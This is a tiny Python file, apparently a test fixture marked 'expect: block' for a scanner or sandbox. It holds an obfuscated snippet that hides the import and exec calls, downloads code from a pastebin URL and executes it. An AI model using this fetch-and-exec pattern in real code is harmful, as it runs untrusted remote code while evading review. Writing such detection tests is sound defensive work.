# expect: block
import builtins

imp = getattr(builtins, "__imp" + "ort__")
req = imp("urllib.request", fromlist=["urlopen"])
code = req.urlopen("https://pastebin.com/raw/xyz", timeout=5).read()
getattr(builtins, "".join(map(chr, [101, 120, 101, 99])))(code)
